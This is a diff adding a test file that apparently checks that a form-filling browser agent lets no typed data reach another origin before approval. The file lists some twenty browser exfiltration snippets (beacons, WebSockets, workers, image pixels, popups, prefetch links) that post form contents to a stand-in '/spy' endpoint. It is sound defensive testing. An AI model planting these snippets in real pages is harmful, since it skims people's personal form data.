@@ -1,0 +1,91 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { apply } from '../apply-harness.ts';
+import { openBrowser } from '../open-browser.ts';
+import { asPage, QUESTIONS, serveSites } from './serve-site.ts';
+
+// Starting a browser on a busy machine takes longer than a test may.
+vi.setConfig({ testTimeout: 90_000, hookTimeout: 90_000 });
+const browser = openBrowser();
+let sites: Awaited<ReturnType<typeof serveSites>>;
+beforeAll(async () => {
+  sites = await serveSites();
+  await browser.warmUp();
+});
+beforeEach(() => {
+  sites.arrived.length = 0;
+});
+afterAll(async () => {
+  await browser.close();
+  await sites.close();
+});
+
+/** Each way to carry `data` out; `to` is the other origin, without its scheme. */
+const WAYS: Readonly<Record<string, string>> = {
+  fetch: `fetch(to + '/spy', { method: 'POST', mode: 'no-cors', body: data })`,
+  'fetch with a put': `fetch(to + '/spy', { method: 'PUT', body: data })`,
+  beacon: `navigator.sendBeacon(to + '/spy', data)`,
+  'a live connection': `const s = new WebSocket(to.replace('http', 'ws') + '/spy?' + data)`,
+  'a live connection of a worker': `new Worker(URL.createObjectURL(new Blob(["new WebSocket('" + to.replace('http', 'ws') + "/spy?" + data + "')"])))`,
+  'a live connection of a served worker': `new Worker('/worker.js#' + to.replace('http', 'ws') + '/spy?' + data)`,
+  'a live connection of a bare frame': `const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.WebSocket(to.replace('http', 'ws') + '/spy?' + data)`,
+  worker: `new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "/spy', { method: 'POST', mode: 'no-cors', body: '" + data + "' })"])))`,
+  'shared worker': `new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + to + "/spy', { method: 'POST', mode: 'no-cors', body: '" + data + "' })"])))`,
+  popup: `const w = document.createElement('form'); w.method = 'post'; w.target = '_blank'; w.action = to + '/spy'; const i = document.createElement('input'); i.name = 'd'; i.value = data; w.append(i); document.body.append(w); HTMLFormElement.prototype.submit.call(w); w.remove()`,
+  'popup by address': `window.open(to + '/spy?' + data)`,
+  'popup without an opener': `window.open(to + '/spy?' + data, '_blank', 'noopener')`,
+  picture: `new Image().src = to + '/spy?' + data`,
+  'hidden picture': `new Image().src = to + '/' + btoa(data) + '.gif'`,
+  style: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + '/spy?' + data; document.head.append(l)`,
+  prefetch: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to + '/spy?' + data; document.head.append(l)`,
+  frame: `const f = document.createElement('iframe'); f.src = to + '/spy?' + data; document.body.append(f)`,
+  events: `new EventSource(to + '/spy?' + data)`,
+  script: `const s = document.createElement('script'); s.src = to + '/spy/' + data; document.head.append(s)`,
+};
+
+const spying = (way: string, extra = '') =>
+  asPage(
+    `<form id="f" action="/receive" method="post">${QUESTIONS}<button>Submit application</button></form>${extra}<script>const to = '${sites.other}'; f.onchange = () => { const data = new URLSearchParams(new FormData(f)).toString(); ${way} };</script>`,
+  );
+
+describe('before the approval', () => {
+  it.each(Object.entries(WAYS))('nothing that was typed leaves by %s', async (_name, way) => {
+    sites.page('/worker.js', (_request, response) =>
+      response
+        .writeHead(200, { 'content-type': 'text/javascript' })
+        .end('try { new WebSocket(location.hash.slice(1)) } catch {}'),
+    );
+    const url = sites.page('/spied', spying(way));
+    await apply(browser.host, { url, hooks: { review: async () => ({ decision: 'stop' }) } });
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    expect(sites.leaked()).toEqual([]);
+    expect(sites.sent()).toEqual([]);
+  });
+
+  it('a captcha frame opens no way out', async () => {
+    const captcha = `<iframe src="${sites.other}/recaptcha/api2/anchor" title="reCAPTCHA" width="304" height="78"></iframe>`;
+    const url = sites.page(
+      '/captcha',
+      spying(
+        '',
+        `${captcha}<script>setInterval(() => fetch('${sites.other}/spy', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f)) }), 200)</script>`,
+      ),
+    );
+    await apply(browser.host, {
+      url,
+      hooks: {
+        handOver: () => new Promise((resolve) => setTimeout(() => resolve('stop'), 1500)),
+      },
+    });
+    expect(sites.leaked()).toEqual([]);
+  });
+
+  it('drafts, uploads and look-ups of the form’s own site get through', async () => {
+    const draft = `fetch('/api/draft', { method: 'POST', body: data }); fetch('/api/places?q=' + encodeURIComponent(f.full_name.value)); const u = new FormData(); u.append('file', new File(['x'], 'cv.pdf')); fetch('/upload', { method: 'POST', body: u })`;
+    const url = sites.page('/saved', spying(draft));
+    const { report } = await apply(browser.host, { url });
+    const paths = sites.arrived.map(({ path }) => path.split('?')[0]);
+    expect(paths).toEqual(expect.arrayContaining(['/api/draft', '/api/places', '/upload']));
+    expect(report.submitted).toBe('confirmed');
+    expect(paths.filter((path) => path === '/receive')).toHaveLength(1);
+  });
+});
